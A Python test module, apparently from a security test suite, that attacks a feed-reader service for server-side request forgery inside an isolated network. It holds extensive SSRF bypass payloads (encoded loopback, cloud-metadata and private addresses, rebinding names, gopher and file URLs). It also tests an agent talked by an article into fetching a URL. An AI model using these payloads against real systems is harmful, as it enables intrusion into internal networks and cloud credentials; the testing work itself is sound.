"""Makes the service connect to private addresses (SSRF): many spellings, in every place where it accepts a URL.

It runs in a network where every address is ours (see `abuse.network_namespace`): an attempt succeeds if the service
connects to any address but the publisher's public ones, whatever it does with the response.
"""

from __future__ import annotations

import json
import secrets
import time
from collections import defaultdict
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from html import escape
from itertools import count
from typing import Any
from urllib.parse import quote

from abuse import client, pages
from abuse.attempts import Attempt, Result
from abuse.network_namespace import PUBLIC_V4, PUBLIC_V6, NamespaceUnavailable, run_in_namespace
from abuse.people import Person, person
from abuse.publisher import Contact, Document, Publisher
from abuse.testbed import Testbed

SUCCEEDS_IF = "a connection to an address that is not the publisher's public one"

# Hosts, each tried as http://HOST/path.
LOOPBACK = [
    "127.0.0.1",
    "127.1",
    "127.0.1",
    "127.000.000.001",
    "0177.0.0.1",
    "0177.0.0.01",
    "00000177.0.0.1",
    "0177.1",
    "0x7f.0.0.1",
    "0x7f.0x0.0x0.0x1",
    "0x7f000001",
    "0X7F000001",
    "0x7f.1",
    "127.0x1",
    "2130706433",
    "017700000001",
    "6425673729",
    "383.0.0.1",
    "127.0.0.1.",
    "127.0.0.1..",
    "127.1.",
    "2130706433.",
    "127.0.0.2",
    "127.127.127.127",
    "127.255.255.254",
    "0",
    "00",
    "0x0",
    "0.0.0.0",
    "0.0.0.0.",
    "0.1.2.3",
    "127.0.0.1:80",
    "127.0.0.1:080",
    "127.0.0.1:443",
    "127.0.0.1:80:80",
    "localhost",
    "LOCALHOST",
    "LocalHost",
    "localhost.",
    "localhost..",
    "a.localhost",
    "localhost.localdomain",
    "ip6-localhost",
    "ip6-loopback",
    "intranet",
    "loc%61lhost",
    "%6cocalhost",
    "127.0.0.%31",
    "%31%32%37%2e0%2e0%2e1",
    "127%2e0%2e0%2e1",
    "127.0.0.1%00.public.test",
    "127.0.0.1%2f.public.test",
    "127.0.0.1%23.public.test",
    "127.0.0.1%20.public.test",
]
PRIVATE = [
    "10.0.0.1",
    "10.255.255.254",
    "172.16.0.1",
    "172.31.255.254",
    "192.168.0.1",
    "192.168.1.254",
    "100.64.0.1",
    "100.127.255.254",
    "169.254.0.1",
    "169.254.169.254",
    "169.254.170.2",
    "100.100.100.200",
    "192.0.0.192",
    "168.63.129.16",
    "198.18.0.1",
    "224.0.0.1",
    "239.255.255.250",
    "255.255.255.255",
    "240.0.0.1",
    "192.0.0.1",
    "192.88.99.1",
    "192.0.2.1",
    "198.51.100.1",
    "203.0.113.1",
    "167772161",
    "0xa000001",
    "012.0.0.1",
    "0xc0.0xa8.0.1",
    "0300.0250.0.1",
    "3232235521",
    "2852039166",
    "0xa9fea9fe",
    "0xA9.0xFE.0xA9.0xFE",
    "0251.0376.0251.0376",
    "169.254.43518",
    "169.16689662",
    "025177524776",
    "169.254.169.254.",
    "169.254.169.254:80",
]
IPV6 = [
    "[::1]",
    "[0:0:0:0:0:0:0:1]",
    "[0000:0000:0000:0000:0000:0000:0000:0001]",
    "[::0001]",
    "[0::1]",
    "[::]",
    "[::1].",
    "[::ffff:127.0.0.1]",
    "[::ffff:7f00:1]",
    "[::FFFF:7F00:0001]",
    "[0:0:0:0:0:ffff:127.0.0.1]",
    "[::ffff:0:127.0.0.1]",
    "[::127.0.0.1]",
    "[::7f00:1]",
    "[64:ff9b::127.0.0.1]",
    "[64:ff9b::7f00:1]",
    "[64:ff9b::a9fe:a9fe]",
    "[64:ff9b:1::7f00:1]",
    "[2002:7f00:1::]",
    "[2002:7f00:1::1]",
    "[2002:a9fe:a9fe::]",
    "[2002:0a00:0001::1]",
    "[2001:0:4136:e378:8000:63bf:80ff:fffe]",
    "[2001:10::1]",
    "[fe80::1]",
    "[fe80::1%25eth0]",
    "[fe80::1%25lo]",
    "[fe80::1%lo]",
    "[::1%25lo]",
    "[fc00::1]",
    "[fd00:ec2::254]",
    "[fec0::1]",
    "[ff02::1]",
    "[::ffff:169.254.169.254]",
    "[::ffff:a9fe:a9fe]",
    "[::FFFF:10.0.0.1]",
    "[::ffff:127.1]",
    "[::ffff:0x7f.1]",
    "[2001:db8::1]",
    "[100::1]",
    "[5f00::1]",
    "[3fff::1]",
    "[4000::1]",
    "[v1.127.0.0.1]",
    "[::1",
    "::1",
    "[127.0.0.1]",
    "[localhost]",
    "[::ffff:0:7f00:1]",
    "[::a9fe:a9fe]",
]
UNICODE = (
    "１２７.０.０.１", "127。0。0。1", "127．0．0．1", "127｡0｡0｡1", "①②⑦.⓪.⓪.①", "¹²⁷.⁰.⁰.¹", "١٢٧.٠.٠.١", "१२७.०.०.१",
    "𝟏𝟐𝟕.𝟎.𝟎.𝟏", "𝟭𝟮𝟳.𝟬.𝟬.𝟭", "ⓛⓞⓒⓐⓛⓗⓞⓢⓣ", "localhoſt", "ｌｏｃａｌｈｏｓｔ", "ʟocalhost", "local\u00adhost", "local\u200bhost",
    "127.0.0.1\u200b", "\u2060127.0.0.1", "[::１]", "[：：1]", "１６９.２５４.１６９.２５４", "⑯⑨.②⑤④.⑯⑨.②⑤④", "127.0.0.1\u3002",
    "public.test\uff0f@127.0.0.1", "public.test\uff03@127.0.0.1",
)  # fmt: skip
USERINFO = (
    "public.test@127.0.0.1", "public.test:80@127.0.0.1", "user:secret@127.0.0.1", "@127.0.0.1", "public.test@@127.0.0.1",
    "a@public.test@127.0.0.1", "127.0.0.1#@public.test", "127.0.0.1\\@public.test", "public.test\\@127.0.0.1",
    "127.0.0.1?@public.test", "127.0.0.1;@public.test", "public.test&@127.0.0.1", "public.test#@127.0.0.1",
    "public.test;127.0.0.1", "127.0.0.1,public.test", "public.test%40127.0.0.1", "public.test%00@127.0.0.1",
    "public.test\t@127.0.0.1", "127.0.0.1\t", "public.test 127.0.0.1", "public.test%2f@127.0.0.1", "[::1]@127.0.0.1",
)  # fmt: skip
NAMES = [
    "127-0-0-1.v4.test",
    "10-0-0-1.v4.test",
    "169-254-169-254.v4.test",
    "0-0-0-0.v4.test",
    "192-168-0-1.v4.test",
    "100-64-0-1.v4.test",
    "168-63-129-16.v4.test",
    "127-0-0-1.V4.TEST",
    "127-0-0-1.v4.test.",
    "0--1.v6.test",
    "0--ffff-7f00-1.v6.test",
    "64-ff9b--7f00-1.v6.test",
    "2002-7f00-1--.v6.test",
    "fd00-ec2--254.v6.test",
    "fe80--1.v6.test",
    "0--7f00-1.v6.test",
    "0--ffff-a9fe-a9fe.v6.test",
    "both-127-0-0-1.test",
    "both-169-254-169-254.test",
    "metadata.google.internal",
    "instance-data",
    "kubernetes.default.svc",
]
# %N is a different number in each attempt, for names that resolve differently at the second lookup.
REBINDING = (
    "flip-127-0-0-1-%N.test", "flip-169-254-169-254-%N.test", "flip-10-0-0-1-%N.test", "flip-192-168-0-1-%N.test",
    "flop-127-0-0-1-%N.test", "flop-169-254-169-254-%N.test", "flop-10-0-0-1-%N.test",
)  # fmt: skip
# URLs as a whole; %P is the path.
WHOLE = (
    "http:127.0.0.1%P", "http:/127.0.0.1%P", "http:///127.0.0.1%P", "//127.0.0.1%P", "///127.0.0.1%P", "127.0.0.1%P",
    "HTTP://127.0.0.1%P", "http:\\\\127.0.0.1%P", "http://\t127.0.0.1%P", "\thttp://127.0.0.1%P", " http://127.0.0.1%P ",
    "ht\ntp://127.0.0.1%P", "http://127.0.0.1\n.public.test%P", "http://127.0.0.1\r\n%P", "https://127.0.0.1%P",
    "https://[::1]%P", "https://169.254.169.254%P", "https://localhost%P", "feed://127.0.0.1%P", "feed:http://127.0.0.1%P",
    "view-source:http://127.0.0.1%P", "url:http://127.0.0.1%P", "jar:http://127.0.0.1!%P", "gopher://127.0.0.1:80%P",
    "ftp://127.0.0.1:80%P", "dict://127.0.0.1:80%P", "ws://127.0.0.1%P", "file:///etc/hostname%P", "http+unix://%2Ftmp%P",
    "http://127.0.0.1/..%P", "http://public.test/@127.0.0.1%P\\@127.0.0.1",
)  # fmt: skip
_NOT_REACHED = "the permitted address was not reached either"
REDIRECT_STATUSES = (301, 302, 303, 307, 308)


@dataclass(frozen=True)
class Spelling:
    """template: a URL in which %P is a path and %N a number, both new in each attempt."""

    name: str
    template: str

    def url(self, token: str) -> str:
        return self.template.replace("%P", f"/{token}").replace("%N", token)


def _spellings() -> list[Spelling]:
    hosts = [*LOOPBACK, *PRIVATE, *IPV6, *UNICODE, *USERINFO, *NAMES, *REBINDING]
    templates = [f"http://{host.replace('%P', '%25P')}%P" for host in hosts] + list(WHOLE)
    return [Spelling(repr(template.replace("%P", ""))[1:-1], template) for template in templates]


SPELLINGS: Sequence[Spelling] = _spellings()


def run(testbed: Testbed) -> Iterator[Result]:
    try:
        yield from run_in_namespace(testbed, __name__)
    except NamespaceUnavailable as cannot:
        for name in WAYS:
            yield Result(Attempt(name, "every spelling", SUCCEEDS_IF), not_tried=str(cannot))


def run_inside(testbed: Testbed) -> Iterator[Result]:
    """Run all attempts. Called inside the network namespace."""
    attacked = _AttackedService(testbed)
    with attacked.publisher:
        attacked.check()
        for way in WAYS.values():
            yield from way(attacked)
        yield from attacked.unexplained()


class _AttackedService:
    """The service, its user, and a publisher that receives connections to all addresses.

    targets: by token, the kind of a public document (redirect, link, icon, hub) and the URL that it refers to.
    """

    def __init__(self, testbed: Testbed) -> None:
        self.testbed = testbed
        self.publisher = Publisher((80, 443, 8080), everywhere=True, answer=self._answer)
        self.service = testbed.service(websub="on", base_url="http://reader.public.test", worker_pool_size="64")
        self.user: Person = person(self.service)
        self.user.sign_in()
        self._numbers = count(1)
        self._explained: set[int] = set()
        self._names: dict[str, str] = {}
        self.targets: dict[str, tuple[str, str]] = {}

    def check(self) -> None:
        """Raise RuntimeError unless a permitted connection works: otherwise the attempts would prove nothing."""
        answer = self.user.api("POST", "/v1/discover", {"url": self.public("feed", "")})
        if answer.status != 200 or not self.publisher.contacts:
            raise RuntimeError(f"the publisher's public address is not reached: {answer.status} {answer.text}")

    def token(self) -> str:
        return f"t{next(self._numbers)}t"

    def public(self, kind: str, target: str) -> str:
        """Return the URL of a public document that refers to `target`."""
        token = self.token()
        self.targets[token] = (kind, target)
        return f"http://public.test/{kind}/{token}"

    def spellings(self, few: int) -> list[Spelling]:
        return self.testbed.choose(SPELLINGS, few)

    def since(self, before: int, token: str) -> str:
        """Return the private connections from number `before` on, or with that token, as evidence."""
        found = []
        for number, contact in enumerate(self.publisher.contacts):
            if _is_private(contact) and (number >= before or f"/{token}" in contact.line):
                self._explained.add(number)
                found.append(f"{contact.reached}:{contact.port} {contact.line!r}")
        return "; ".join(found[:3])

    def judge(self, attempt: Attempt, token: str, before: int | None, missing: str) -> Result:
        """Return the result, by the private connections with the token and all from number `before` on.

        missing: why their absence proves nothing, "" if it does.
        """
        self._names[token] = attempt.name
        evidence = self.since(len(self.publisher.contacts) if before is None else before, token)
        return Result(attempt, evidence, "" if evidence else missing)

    def unexplained(self) -> Iterator[Result]:
        """Yield the private connections that came after the result of their attempt, and those of no attempt."""
        late: dict[str, list[str]] = defaultdict(list)
        for number, contact in enumerate(self.publisher.contacts):
            if _is_private(contact) and number not in self._explained:
                token = next((token for token in self._names if f"/{token}" in contact.line), "")
                late[self._names.get(token, "")].append(f"{contact.reached}:{contact.port} {contact.line!r}")
        for name, seen in {"": [], **late}.items():
            attempt = Attempt(
                f"later: {name}" if name else "nothing else", "what the service does afterwards", SUCCEEDS_IF
            )
            yield Result(attempt, "; ".join(seen[:3]))

    def _answer(self, contact: Contact) -> Document | None:
        path = contact.line.split(" ")[1] if contact.line.count(" ") == 2 else ""
        kind, _, token = path.removeprefix("http://public.test").strip("/").partition("/")
        created = self.targets.get(token)
        if _is_private(contact) or created is None:
            return Document(_feed("private"), "application/rss+xml")
        return DOCUMENTS[kind](self, created[1])


def _is_private(contact: Contact) -> bool:
    return contact.reached not in (PUBLIC_V4, PUBLIC_V6)


def _feed(title: str, *, channel: str = "", items: Sequence[str] = (), site: str = "http://public.test/") -> bytes:
    entries = "".join(
        f"<item><title>e</title><link>{escape(link)}</link><guid>{escape(link)}</guid></item>" for link in items
    )
    head = f"<title>{escape(title)}</title><link>{escape(site)}</link>{channel}"
    return (
        f'<rss version="2.0" xmlns:atom="http://www.w3.org/2005/Atom"><channel>{head}{entries}</channel></rss>'.encode()
    )


def _redirect(attacked: _AttackedService, target: str) -> Document:
    status = REDIRECT_STATUSES[len(target) % len(REDIRECT_STATUSES)]
    location = quote(target, safe="".join(map(chr, range(0x20, 0x7F)))).replace("\n", "%0A")
    return Document(b"", "text/plain", status, {"Location": location})


def _page_with(link: str) -> Callable[[_AttackedService, str], Document]:
    def page(attacked: _AttackedService, target: str) -> Document:
        return Document(f"<html><head>{link.replace('%', escape(target))}</head></html>".encode(), "text/html")

    return page


def _rss_with(channel: str) -> Callable[[_AttackedService, str], Document]:
    def document(attacked: _AttackedService, target: str) -> Document:
        return Document(_feed("a", channel=channel.replace("%", escape(target))), "application/rss+xml")

    return document


def _icon_page(attacked: _AttackedService, target: str) -> Document:
    """A feed whose site names the icon."""
    return Document(_feed("a", site=attacked.public("iconpage", target)), "application/rss+xml")


DOCUMENTS: dict[str, Callable[[_AttackedService, str], Document]] = {
    "feed": lambda _, target: Document(_feed("a", items=target.split("\x01") if target else ()), "application/rss+xml"),
    # With a new entry each time.
    "news": lambda attacked, target: Document(
        _feed("a", items=[f"http://public.test/{attacked.token()}"]), "application/rss+xml"
    ),
    "redirect": _redirect,
    "again": lambda attacked, target: Document(
        b"", "text/plain", 302, {"Location": attacked.public("redirect", target)}
    ),
    "refresh": _page_with('<meta http-equiv="refresh" content="0; url=%">'),
    "linked": _page_with('<link rel="alternate" type="application/rss+xml" href="%">'),
    "iconpage": _page_with('<link rel="icon" href="%"><link rel="apple-touch-icon" href="%">'),
    "iconfeed": _icon_page,
    "image": _rss_with("<image><url>%</url><title>a</title><link>http://public.test/</link></image>"),
    "hub": _rss_with('<atom:link rel="hub" href="%"/><atom:link rel="self" href="http://public.test/self"/>'),
}


# Immediate ways: when the service responds, the connection has been made or not.
def _subscribe(attacked: _AttackedService, url: str) -> None:
    attacked.user.api("POST", "/v1/feeds", {"feed_url": url})


def _discover(attacked: _AttackedService, url: str) -> None:
    attacked.user.api("POST", "/v1/discover", {"url": url})


def _agent(attacked: _AttackedService, url: str) -> None:
    """An article may have talked an agent into it."""
    key = attacked.user.made("POST", "/v1/api-keys", {"description": secrets.token_hex(8), "scope": "manage"})
    wish = {"name": "subscribe", "arguments": {"url": url}}
    message = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": wish}
    headers = {"X-Auth-Token": key["token"], "Content-Type": "application/json"}
    body = json.dumps(message).encode()
    client.request(attacked.user.service, "POST", "/mcp", headers=headers, body=body, timeout_s=60)
    attacked.user.api("DELETE", f"/v1/api-keys/{key['id']}")


def _find_on_page(attacked: _AttackedService, url: str) -> None:
    for form in pages.forms(attacked.user.get("/feeds/add").text, "/feeds/add"):
        for name in form.values:
            if "url" in name or "address" in name:
                attacked.user.submit(form, **{name: url})
                return
    raise RuntimeError("the page /feeds/add has no form with an address")


def _linked(attacked: _AttackedService, url: str) -> None:
    _find_on_page(attacked, attacked.public("linked", url))


def _proxy(attacked: _AttackedService, url: str) -> None:
    body = {"url": attacked.public("feed", ""), "proxy_url": url, "fetch_via_proxy": True}
    attacked.user.api("POST", "/v1/discover", body)


def _through(kind: str) -> Callable[[_AttackedService, str], None]:
    def way(attacked: _AttackedService, url: str) -> None:
        attacked.user.api("POST", "/v1/feeds", {"feed_url": attacked.public(kind, url)})

    return way


def _change_feed(attacked: _AttackedService, url: str) -> None:
    feed = attacked.user.made("POST", "/v1/feeds", {"feed_url": attacked.public("feed", "")})["feed_id"]
    attacked.user.api("PUT", f"/v1/feeds/{feed}", {"feed_url": url, "site_url": url})
    attacked.user.api("PUT", f"/v1/feeds/{feed}/refresh")
    attacked.user.api("DELETE", f"/v1/feeds/{feed}")


def _article(attacked: _AttackedService, url: str) -> None:
    feed = attacked.user.made("POST", "/v1/feeds", {"feed_url": attacked.public("feed", "")})["feed_id"]
    answer = attacked.user.api("POST", f"/v1/feeds/{feed}/entries/import", {"url": url, "title": "a"})
    if answer.status in (200, 201):
        attacked.user.api("GET", f"/v1/entries/{answer.json()['id']}/fetch-content")
    attacked.user.api("DELETE", f"/v1/feeds/{feed}")


def _webhook(attacked: _AttackedService, url: str) -> None:
    _integration(attacked, "webhook", "url", url)


def _integration(attacked: _AttackedService, name: str, field: str, url: str) -> None:
    wish: dict[str, Any] = {"enabled": True, field: url}
    for other, schema in _integration_schemas(attacked)[name]["properties"].items():
        if other not in (*wish, "secret") and schema.get("type") == "string" and "enum" not in schema:
            wish[other] = "a"
    answer = attacked.user.api("PUT", "/v1/integrations", {name: wish})
    if answer.status < 300:
        attacked.user.api("POST", f"/v1/integrations/{name}/test")
    attacked.user.api("PUT", "/v1/integrations", {name: {"enabled": False}})


def _integration_schemas(attacked: _AttackedService) -> dict[str, Any]:
    document = attacked.user.made("GET", "/v1/openapi.json")
    schema = document["paths"]["/v1/integrations"]["put"]["requestBody"]["content"]["application/json"]["schema"]
    return {name: _resolved(document, one) for name, one in _resolved(document, schema)["properties"].items()}


def _resolved(document: dict[str, Any], schema: dict[str, Any]) -> dict[str, Any]:
    """Return the schema that another one refers to (OpenAPI 3.1, "Reference Object"), or the schema itself."""
    name = schema.get("$ref", "").rpartition("/")[2]
    resolved: dict[str, Any] = document["components"]["schemas"][name] if name else schema
    return resolved


def _immediate(
    name: str, tries: str, way: Callable[[_AttackedService, str], None], few: int = 8, *, is_followed: bool = True
) -> Callable[[_AttackedService], Iterator[Result]]:
    """is_followed: whether the service connects to a permitted URL; if so, that is checked first."""

    def attempts(attacked: _AttackedService) -> Iterator[Result]:
        missing = "" if not is_followed else _missing(attacked, way)
        for spelling in attacked.spellings(few):
            token, before = attacked.token(), len(attacked.publisher.contacts)
            way(attacked, spelling.url(token))
            yield attacked.judge(Attempt(f"{name}: {spelling.name}", tries, SUCCEEDS_IF), token, before, missing)

    return attempts


def _missing(attacked: _AttackedService, way: Callable[[_AttackedService, str], None]) -> str:
    """Return why attempts in this way prove nothing, "" if a permitted URL is connected to."""
    token, before = attacked.token(), len(attacked.publisher.contacts)
    way(attacked, f"http://public.test/{token}")
    # A request to a proxy contains the whole URL of the target (RFC 9112, section 3.2.2).
    new = attacked.publisher.contacts[before:]
    return "" if any(f"/{token}" in seen.line or " http://" in seen.line for seen in new) else _NOT_REACHED


def _integrations(attacked: _AttackedService) -> Iterator[Result]:
    """Try every integration with a URL, each with another part of the spellings."""
    for index, (name, field) in enumerate(attacked.testbed.choose(_integration_url_fields(attacked), 4)):

        def way(attacked: _AttackedService, url: str, name: str = name, field: str = field) -> None:
            # Apprise has schemes of its own; json is a plain POST.
            mapped = url.replace("http", "json", 1) if field == "urls" and url.startswith("http") else url
            _integration(attacked, name, field, mapped)

        chosen = SPELLINGS[index * 7 : index * 7 + 1] if attacked.testbed.short else SPELLINGS[index % 8 :: 8]
        missing = _missing(attacked, way)
        for spelling in chosen:
            token, before = attacked.token(), len(attacked.publisher.contacts)
            way(attacked, spelling.url(token))
            attempt = Attempt(f"{name}: {spelling.name}", "the address of an integration, then its test", SUCCEEDS_IF)
            yield attacked.judge(attempt, token, before, missing)


def _integration_url_fields(attacked: _AttackedService) -> list[tuple[str, str]]:
    """Return the names of integrations and of their URL fields."""
    return [
        (name, field)
        for name, schema in _integration_schemas(attacked).items()
        for field in ("url", "api_link", "urls")
        if field in schema["properties"]
    ]


# Delayed ways: a worker connects later. All attempts are sent, then a permitted one, whose connection is awaited.
def _later(
    name: str, tries: str, kind: str, few: int = 8, **more: Any
) -> Callable[[_AttackedService], Iterator[Result]]:
    """kind: the document that refers to the URL. more: other fields of the feed."""

    def attempts(attacked: _AttackedService) -> Iterator[Result]:
        tokens = {}
        for spelling in attacked.spellings(few):
            tokens[spelling] = attacked.token()
            attacked.user.api(
                "POST", "/v1/feeds", {"feed_url": attacked.public(kind, spelling.url(tokens[spelling])), **more}
            )
        missing = _wait_for_control(attacked, kind, **more)
        for spelling, token in tokens.items():
            attempt = Attempt(f"{name}: {spelling.name}", tries, SUCCEEDS_IF)
            yield attacked.judge(attempt, token, None, missing)

    return attempts


def _wait_for_control(attacked: _AttackedService, kind: str, **more: Any) -> str:
    """Return why the other attempts prove nothing, "" if a public address was connected to in the same way."""
    control = attacked.token()
    attacked.user.api("POST", "/v1/feeds", {"feed_url": attacked.public(kind, f"http://public.test/{control}"), **more})
    return _until(lambda: any(f"/{control}" in contact.line for contact in attacked.publisher.contacts))


def _until(arrived: Callable[[], bool], within_s: float = 90) -> str:
    deadline = time.monotonic() + within_s
    while time.monotonic() < deadline:
        if arrived():
            # Earlier connections have been made as well.
            time.sleep(1)
            return ""
        time.sleep(0.1)
    return _NOT_REACHED


def _opml(attacked: _AttackedService) -> Iterator[Result]:
    tokens = {spelling: attacked.token() for spelling in attacked.spellings(8)}
    control = attacked.token()
    urls = [spelling.url(token) for spelling, token in tokens.items()] + [f"http://public.test/{control}"]
    lines = "".join(f'<outline text="a" xmlUrl="{escape(url)}" htmlUrl="{escape(url)}"/>' for url in urls)
    document = f'<opml version="2.0"><body>{lines}</body></opml>'
    answer = attacked.user.api("POST", "/v1/import", document.encode())
    if answer.status >= 300:  # an invalid URL may have caused the refusal of the document: import each alone
        for url in urls:
            single = f'<opml version="2.0"><body><outline text="a" xmlUrl="{escape(url)}"/></body></opml>'
            attacked.user.api("POST", "/v1/import", single.encode())
    attacked.user.api("PUT", "/v1/feeds/refresh")
    missing = _until(lambda: any(f"/{control}" in contact.line for contact in attacked.publisher.contacts))
    for spelling, token in tokens.items():
        attempt = Attempt(f"opml: {spelling.name}", "an outline of an imported OPML document", SUCCEEDS_IF)
        yield attacked.judge(attempt, token, None, missing)


def _crawled(attacked: _AttackedService) -> Iterator[Result]:
    """Subscribe with the crawler to a feed whose entries link to all spellings."""
    tokens = {spelling: attacked.token() for spelling in attacked.spellings(8)}
    control = attacked.token()
    links = [spelling.url(token) for spelling, token in tokens.items()] + [f"http://public.test/{control}"]
    clean = [link.replace("\n", "&#10;") for link in links]
    for start in range(0, len(clean), 40):
        part = [*clean[start : start + 40], clean[-1]]
        attacked.user.api(
            "POST", "/v1/feeds", {"feed_url": attacked.public("feed", "\x01".join(part)), "crawler": True}
        )
    missing = _until(lambda: any(f"/{control}" in contact.line for contact in attacked.publisher.contacts))
    for spelling, token in tokens.items():
        attempt = Attempt(f"crawler: {spelling.name}", "the link of an entry of a feed with crawler", SUCCEEDS_IF)
        yield attacked.judge(attempt, token, None, missing)


def _feed_webhook(attacked: _AttackedService) -> Iterator[Result]:
    """Set the webhook of a feed, which is called for new entries."""
    attacked.user.made("PUT", "/v1/integrations", {"webhook": {"enabled": True, "url": "http://public.test/hook"}})
    tokens = {spelling: attacked.token() for spelling in attacked.spellings(8)}
    control = attacked.token()
    for spelling, token in [*tokens.items(), (Spelling("", "http://public.test%P"), control)]:
        feed = {"feed_url": attacked.public("news", ""), "webhook_url": spelling.url(token)}
        answer = attacked.user.api("POST", "/v1/feeds", feed)
        if answer.status == 201:  # what stands in a feed from the start is no news
            attacked.user.api("PUT", f"/v1/feeds/{answer.json()['feed_id']}/refresh")
    missing = _until(lambda: any(f"/{control}" in contact.line for contact in attacked.publisher.contacts))
    attacked.user.api("PUT", "/v1/integrations", {"webhook": {"enabled": False}})
    for spelling, token in tokens.items():
        attempt = Attempt(
            f"feed webhook: {spelling.name}", "the webhook address of a feed with a new entry", SUCCEEDS_IF
        )
        yield attacked.judge(attempt, token, None, missing)


WAYS: dict[str, Callable[[_AttackedService], Iterator[Result]]] = {
    "subscribe": _immediate("subscribe", "the address of a new feed", _subscribe, 24),
    "discover": _immediate("discover", "an address to find feeds at", _discover),
    "agent": _immediate("agent", "the address to which an agent subscribes", _agent, 4),
    "page": _immediate("page", "the address on the page that adds feeds", _find_on_page, 4),
    "change": _immediate("change", "a feed's address is changed, then it is refreshed", _change_feed, 4),
    "proxy": _immediate("proxy", "the proxy of a feed", _proxy),
    "redirect": _immediate("redirect", "a public address redirects (301, 302, 303, 307, 308)", _through("redirect")),
    "two redirects": _immediate("two redirects", "a public address redirects twice", _through("again"), 4),
    "meta refresh": _immediate(
        "meta refresh", "a public page moves on by meta refresh", _through("refresh"), 4, is_followed=False
    ),
    "linked feed": _immediate("linked feed", "a public page names the address as its feed", _linked, 4),
    "article": _immediate("article", "the address of an imported entry, then its full text", _article, 4),
    "webhook": _immediate("webhook", "the address of the webhook, then its test", _webhook),
    "integrations": _integrations,
    "opml": _opml,
    "crawler": _crawled,
    "feed webhook": _feed_webhook,
    "icon": _later("icon", "the site of a feed names the address as its icon", "iconfeed", 4),
    "image": _later("image", "a feed names the address as its picture", "image", 4),
    "hub": _later("hub", "a feed names the address as its hub", "hub", 4),
}
